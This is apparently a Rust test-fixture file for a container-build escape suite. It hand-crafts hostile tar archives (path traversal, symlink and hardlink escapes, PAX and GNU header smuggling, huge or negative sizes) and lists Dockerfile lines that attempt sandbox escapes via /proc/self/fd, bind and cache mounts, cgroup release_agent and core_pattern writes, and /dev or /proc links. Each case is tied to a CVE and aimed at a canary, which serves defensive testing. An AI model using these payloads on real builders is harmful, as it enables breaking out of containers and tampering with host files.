//! What the escape suite is made of: archives written byte by byte, and lines of Dockerfiles.

/// One entry of an archive: its name, its type, where it links to, its content.
pub struct Raw {
    name: String,
    kind: u8,
    link: String,
    content: Vec<u8>,
    size: Option<&'static str>,
}

/// A hostile archive; `entries` is told where the canary is.
pub struct Archive {
    pub name: &'static str,
    pub entries: fn(&str) -> Vec<Raw>,
}

fn raw(name: &str, kind: u8, link: &str, content: &[u8]) -> Raw {
    Raw { name: name.to_owned(), kind, link: link.to_owned(), content: content.to_vec(), size: None }
}

fn file(name: &str) -> Raw {
    raw(name, b'0', "", b"intruder")
}

/// A file that is not hostile at all.
pub fn named(name: &str, content: &str) -> Raw {
    raw(name, b'0', "", content.as_bytes())
}

fn link(name: &str, target: &str) -> Raw {
    raw(name, b'2', target, b"")
}

fn hard(name: &str, target: &str) -> Raw {
    raw(name, b'1', target, b"")
}

fn directory(name: &str) -> Raw {
    raw(name, b'5', "", b"")
}

/// A PAX header with one record.
fn pax(key: &str, value: &str) -> Raw {
    let rest = format!(" {key}={value}\n");
    let length = (1..).find(|length: &usize| length.to_string().len() + rest.len() == *length).expect("a length");
    raw("PaxHeaders/x", b'x', "", format!("{length}{rest}").as_bytes())
}

/// The way out of wherever one is.
fn up(canary: &str) -> String {
    format!("{}{}", "../".repeat(40), canary.trim_start_matches('/'))
}

/// An archive of `entries`, names and all as they are.
pub fn tar(entries: &[Raw]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for Raw { name, kind, link, content, size } in entries {
        let mut header = [0; 512];
        let mut put = |at: usize, most: usize, text: &[u8]| {
            header[at..at + text.len().min(most)].copy_from_slice(&text[..text.len().min(most)])
        };
        put(0, 100, name.as_bytes());
        put(100, 8, b"0000777\0");
        put(108, 8, b"0000000\0");
        put(116, 8, b"0000000\0");
        let counted = format!("{:011o}\0", content.len());
        put(124, 12, size.map_or(counted.as_bytes(), str::as_bytes));
        put(136, 12, b"00000000000\0");
        put(148, 8, b"        ");
        put(156, 1, &[*kind]);
        put(157, 100, link.as_bytes());
        put(257, 8, b"ustar\x0000");
        put(329, 8, b"0000010\0");
        put(337, 8, b"0000000\0");
        let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
        header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        bytes.extend(header);
        bytes.extend(content);
        bytes.resize(bytes.len().next_multiple_of(512), 0);
    }
    bytes.resize(bytes.len() + 1024, 0);
    bytes
}

/// A file whose PAX size covers what looks like further entries.
pub fn nested(canary: &str) -> Vec<Raw> {
    let inner = tar(&[file("smuggled"), link("l", canary), file("l/new")]);
    let outer = Raw { size: Some("00000000000\0"), ..raw("outer", b'0', "", &inner) };
    vec![pax("size", &inner.len().to_string()), outer, file("after")]
}

macro_rules! archives {
    ($($name:literal: |$canary:ident| [$($entry:expr),* $(,)?];)*) => {
        &[$(Archive { name: $name, entries: |$canary| { let _ = $canary; vec![$($entry),*] } }),*]
    };
}

/// Every archive is added, and is the layer of a base image.
pub const ARCHIVES: &[Archive] = archives! {
    "a name that goes up": |canary| [file(&format!("{}/new", up(canary)))];
    "a name from the root": |canary| [file(&format!("{canary}/new"))];
    "a name that goes down and up": |canary| [directory("a"), file(&format!("a/{}/new", up(canary)))];
    "a file through a link from the root": |canary| [link("l", canary), file("l/new")];
    "a file through a link that goes up": |canary| [link("l", &up(canary)), file("l/new")];
    "a file through two links: CVE-2025-59825": |canary| [link("b", canary), link("l", "b"), file("l/new")];
    "a file through a link in a directory": |canary| [directory("d"), link("d/l", &up(canary)), file("d/l/new")];
    "a file through a link to the directory above": |_canary| [link("l", ".."), link("l2", "l/.."), file("l2/new")];
    "a file over a link to a file": |canary| [link("l", &format!("{canary}/secret")), file("l")];
    "a directory over a link: CVE-2026-33056, RUSTSEC-2026-0113": |canary| [link("l", canary), directory("l")];
    "a directory below a link": |canary| [link("l", canary), directory("l/dir")];
    "a link below a link": |canary| [link("l", canary), link("l/new", "/etc/passwd")];
    "a device below a link": |canary| [link("l", canary), raw("l/new", b'3', "", b"")];
    "a pipe below a link": |canary| [link("l", canary), raw("l/new", b'6', "", b"")];
    "a hard link from the root": |canary| [hard("h", &format!("{canary}/secret"))];
    "a hard link that goes up": |canary| [hard("h", &format!("{}/secret", up(canary)))];
    "a hard link through a link": |canary| [link("l", canary), hard("h", "l/secret"), file("h")];
    "a hard link to a link": |canary| [link("l", &format!("{canary}/secret")), hard("h", "l"), file("h")];
    "a directory that becomes a link": |canary| [directory("d"), file("d/x"), link("d", canary), file("d/new")];
    "a file that becomes a directory": |_canary| [file("d"), file("d/new")];
    "a link for a root": |canary| [link(".", canary), file("new")];
    "a link for no name": |canary| [link("", canary), file("new")];
    "a removal through a link": |canary| [link("l", canary), raw("l/.wh.secret", b'0', "", b"")];
    "a removal that goes up": |canary| [raw(&format!("{}/.wh.secret", up(canary)), b'0', "", b"")];
    "the removal of the directory above": |_canary| [raw("d/.wh...", b'0', "", b""), raw(".wh..", b'0', "", b"")];
    "an opaque link": |canary| [link("l", canary), raw("l/.wh..wh..opq", b'0', "", b"")];
    "a PAX name that goes up": |canary| [pax("path", &format!("{}/new", up(canary))), file("tame")];
    "a PAX link from the root": |canary| [pax("linkpath", canary), link("l", "tame"), file("l/new")];
    "a PAX hard link from the root": |canary| [pax("linkpath", &format!("{canary}/secret")), hard("h", "tame")];
    "a GNU long name that goes up": |canary| [raw("././@LongLink", b'L', "", format!("{}/new\0", up(canary)).as_bytes()), file("tame")];
    "a GNU long link from the root": |canary| [raw("././@LongLink", b'K', "", format!("{canary}\0").as_bytes()), link("l", "tame"), file("l/new")];
    "entries inside of a file: CVE-2025-62518, RUSTSEC-2026-0068": |canary| [pax("size", "512"), Raw { size: Some("00000000000\0"), ..raw("outer", b'0', "", &tar(&[file(&format!("{canary}/new"))])[..512]) }];
    "a file of exabytes": |_canary| [Raw { size: Some("\u{0}77777777777"), ..file("f") }];
    "a file of eight gigabytes that is not there": |_canary| [Raw { size: Some("77777777777\0"), ..file("f") }];
    "a PAX size of exabytes": |_canary| [pax("size", "9223372036854775807"), file("f")];
    "a PAX size below nothing": |_canary| [pax("size", "-1"), file("f")];
    "a name with nothing in it": |_canary| [raw("a//..//b/./..", b'0', "", b"x")];
    "links in a circle": |_canary| [link("l", "m"), link("m", "l"), file("l/new")];
    "a block device": |_canary| [raw("disk", b'4', "", b"")];
    "a size before a long name: RUSTSEC-2026-0112, RUSTSEC-2026-0145": |canary| [
        pax("size", "1024"),
        raw("././@LongLink", b'L', "", format!("tame\0{}/new\0", up(canary)).as_bytes()),
        Raw { size: Some("00000000000\0"), ..raw("f", b'0', "", &tar(&[file(&format!("{canary}/new"))])[..1024]) },
    ];
    "a size before another PAX header: RUSTSEC-2026-0112, RUSTSEC-2026-0145": |canary| [
        pax("size", "1024"),
        pax("path", &format!("{}/new", up(canary))),
        Raw { size: Some("00000000000\0"), ..raw("f", b'0', "", &tar(&[file(&format!("{canary}/new"))])[..1024]) },
    ];
    "holes without number: CVE-2025-58183": |_canary| [
        pax("GNU.sparse.major", "1"),
        pax("GNU.sparse.minor", "0"),
        pax("GNU.sparse.realsize", "9223372036854775807"),
        raw("f", b'0', "", b"4611686018427387903\n0\n0\n"),
    ];
    "a header of exabytes": |_canary| [Raw { size: Some("77777777777\0"), ..raw("x", b'x', "", b"") }];
    "/dev that is a link: CVE-2026-41579": |canary| [link("dev", canary), directory("bin")];
    "/proc that is a link: CVE-2023-27561, CVE-2023-28642": |canary| [link("proc", canary), link("sys", canary), directory("bin")];
    "a pipe for users: CVE-2026-93320": |_canary| [directory("etc"), raw("etc/passwd", b'6', "", b""), raw("etc/group", b'6', "", b"")];
    "devices for users: CVE-2026-93320": |_canary| [directory("etc"), raw("etc/passwd", b'3', "", b""), raw("etc/group", b'4', "", b"")];
    "users from a link: CVE-2024-9676": |canary| [directory("etc"), link("etc/passwd", &format!("{canary}/passwd")), link("etc/group", &format!("{canary}/passwd"))];
};

/// Lines after `FROM busybox AS first`; the context holds links to the canary: `link`, `up`, `deep/inner`, `secret`.
pub const DOCKERFILES: &[(&str, &str)] = &[
    ("COPY of a link", "COPY link /x"),
    ("COPY of a link that goes up", "COPY up /x"),
    ("COPY of a link to a file", "COPY secret /x"),
    ("COPY through a link", "COPY link/secret up/secret /x/"),
    ("COPY through links in a directory", "COPY deep/inner/secret /x/"),
    ("COPY of a directory with links", "COPY . /x/\nRUN cat /x/deep/inner/* /x/up/* /x/secret || true"),
    ("COPY by a pattern through a link", "COPY link/* up/* /x/"),
    ("COPY with parents through a link", "COPY --parents link/./secret /x/"),
    ("COPY of what is above", "COPY ../../../../../../../../CANARY/secret CANARY/secret /x/"),
    ("ADD of what is above", "ADD ../../../../../../../../CANARY/secret /x/"),
    ("COPY to what is above", "COPY deep ../../../../../../../../CANARY/new/"),
    ("COPY through a link of the image", "RUN ln -s CANARY /l\nCOPY deep /l/new/"),
    ("COPY to a link of the image", "RUN ln -s CANARY/secret /l\nCOPY --chmod=777 Dockerfile* deep /l"),
    ("linked COPY through a link of the image", "RUN ln -s CANARY /l\nCOPY --link deep /l/new/"),
    (
        "COPY from a stage through a link",
        "RUN ln -s CANARY /l && ln -s CANARY/secret /s\nFROM scratch\nCOPY --from=first /l /s /l/secret /x/",
    ),
    (
        "COPY from a stage with links",
        "RUN ln -s CANARY /l\nFROM busybox\nCOPY --from=first / /y/\nRUN cat /y/l/secret || true",
    ),
    ("WORKDIR through a link", "RUN ln -s CANARY /l\nWORKDIR /l/new"),
    (
        "WORKDIR in a descriptor: CVE-2024-21626",
        "WORKDIR /proc/self/fd/7\nRUN cat ../../../../../../../../../CANARY/secret; touch ../../../../../../../../../CANARY/new; true",
    ),
    (
        "WORKDIR in another descriptor: CVE-2024-21626",
        "WORKDIR /proc/self/fd/9/../../..\nRUN cat .CANARY/secret ../../..CANARY/secret; true",
    ),
    (
        "a bind mount of a link: CVE-2024-1753",
        "RUN --mount=type=bind,source=link,target=/m,rw cat /m/secret; touch /m/new; true",
    ),
    (
        "a bind mount of a stage's link: CVE-2024-1753",
        "RUN ln -s / /l\nFROM busybox\nRUN --mount=type=bind,from=first,source=/l,target=/m,rw cat /mCANARY/secret; touch /mCANARY/new; true",
    ),
    (
        "a bind mount of what is above: CVE-2024-11218",
        "RUN --mount=type=bind,source=../../../../../../..CANARY,target=/m,rw cat /m/secret; touch /m/new; true",
    ),
    (
        "options of a bind mount: CVE-2024-9407",
        "RUN --mount=type=bind,source=deep,target=/m,bind-propagation=shared,rw mount --bind / /m; true",
    ),
    (
        "a bind mount that is written: CVE-2025-4953",
        "RUN --mount=type=bind,target=/m,rw touch /m/new; echo intruder > /m/Dockerfile; rm -rf /m/deep; true",
    ),
    (
        "a bind mount of the context on a link: CVE-2024-45310",
        "RUN ln -s CANARY /l\nRUN --mount=target=/l/made/by/mount true; mkdir -p /l/other",
    ),
    (
        "a bind mount on a link: CVE-2024-23652",
        "RUN ln -s CANARY /l\nRUN --mount=type=bind,source=deep,target=/l/new true",
    ),
    (
        "a stub that becomes a link: CVE-2024-23652",
        "RUN --mount=type=tmpfs,target=/a/b/c true; mv /a /z; ln -s CANARY /a; true",
    ),
    (
        "a stub below a link: CVE-2024-23652",
        "RUN ln -s CANARY/dir /l\nRUN --mount=type=cache,target=/l/secret true; true",
    ),
    (
        "a cache that is called as what is above: CVE-2024-9675",
        "RUN --mount=type=cache,id=../../../../../../..CANARY,target=/m cat /m/secret; touch /m/new; true",
    ),
    (
        "a cache from a link: CVE-2024-23651",
        "RUN --mount=type=cache,id=c,target=/m ln -s CANARY /m/l\nRUN --mount=type=cache,id=c,source=l,target=/m cat /m/secret; touch /m/new; true",
    ),
    (
        "a cache from what is above: CVE-2024-23651",
        "RUN --mount=type=cache,id=c,source=../../../../../../../../..CANARY,target=/m cat /m/secret; touch /m/new; true",
    ),
    (
        "all rights without being asked: CVE-2024-23653, GHSA-7236-3392-c5c6",
        "RUN --security=insecure cat /proc/1/rootCANARY/secret",
    ),
    (
        "another process's root",
        "RUN cat /proc/1/rootCANARY/secret /proc/*/rootCANARY/secret /proc/*/cwd/../../../../../CANARY/secret; true",
    ),
    ("a way out by chroot", "RUN mkdir /c; chroot /c sh -c true; cd ../../../../../../..; cat .CANARY/secret; true"),
    (
        "a masked path that is a link: CVE-2025-31133",
        "RUN rm -rf /dev; mkdir /dev; ln -s CANARY/secret /dev/null; true\nRUN cat /dev/null; echo intruder > /dev/null; true",
    ),
    (
        "a console that is a link: CVE-2025-52565",
        "RUN rm -rf /dev; mkdir /dev; ln -s CANARY/secret /dev/console; true\nRUN cat /dev/console; echo intruder > /dev/console; true",
    ),
    (
        "a /proc that is a link: CVE-2025-52881, CVE-2023-27561, CVE-2023-28642",
        "RUN ln -s CANARY /l && rmdir /proc; ln -s CANARY /proc; true\nRUN cat /proc/secret; true",
    ),
    (
        "a /dev that is a link: CVE-2025-52565, CVE-2026-41579",
        "RUN ln -sfn CANARY /dev2; mv -T /dev2 /dev; true\nRUN echo intruder > /dev/new; true",
    ),
    (
        "a /sys that is a link: CVE-2025-52881",
        "RUN rmdir /sys; ln -s CANARY /sys; true\nRUN cat /sys/secret; touch /sys/new; true",
    ),
    (
        "hosts and resolv.conf that are links",
        "RUN --network=none rm -rf /etc/hosts /etc/resolv.conf; ln -s CANARY/secret /etc/hosts; ln -s CANARY/dir/new /etc/resolv.conf; true\nRUN cat /etc/hosts /etc/resolv.conf; true",
    ),
    ("a core pattern: CVE-2025-52881", "RUN (: > /proc/sys/kernel/core_pattern) && echo canary-7f3a-''secret; true"),
    (
        "users from a link: CVE-2024-9676",
        "RUN rm -f /etc/passwd; ln -s CANARY/passwd /etc/passwd; true\nCOPY --chown=intruder deep /x/\nRUN test $(stat -c %u /x) = 77 && echo canary-7f3a-''secret; true",
    ),
    (
        "the machine's own groups: CVE-2023-25809",
        "RUN mkdir /sys/fs/cgroup/new; echo 1 > /sys/fs/cgroup/cgroup.procs; echo CANARY/secret > /sys/fs/cgroup/release_agent; find /sys/fs/cgroup -name new | grep -q . && echo canary-7f3a-''secret; true",
    ),
    (
        "users from a pipe: CVE-2026-93320",
        "RUN rm -f /etc/passwd; mkfifo /etc/passwd\nCOPY --chown=intruder deep /x/\nUSER intruder\nRUN true",
    ),
    (
        "users from a device: CVE-2026-93320",
        "RUN rm -f /etc/group; mknod /etc/group b 254 0\nCOPY --chown=0:intruder deep /x/\nUSER 0:intruder\nRUN true",
    ),
    ("ADD of a pipe: CVE-2026-93320", "RUN mkfifo /p\nFROM busybox\nCOPY --from=first /p /x/\nADD pipe /y"),
    (
        "a bind mount of a device: CVE-2026-93320",
        "RUN mknod /d b 254 0; mknod /c c 1 1; true\nFROM busybox\nRUN --mount=from=first,source=/d,target=/m --mount=from=first,source=/c,target=/n head -c 1 /m /n && echo canary-7f3a-''secret; true",
    ),
    (
        "more users than memory: GHSA-72x6-4j93-7w86",
        "RUN truncate -s 4T /etc/passwd\nCOPY --chown=intruder deep /x/\nUSER intruder\nRUN true",
    ),
    (
        "a subdirectory of a repository above it: CVE-2026-33748",
        "ADD https://127.0.0.1:1/none.git#main:../../../../../../../CANARY /x/",
    ),
];
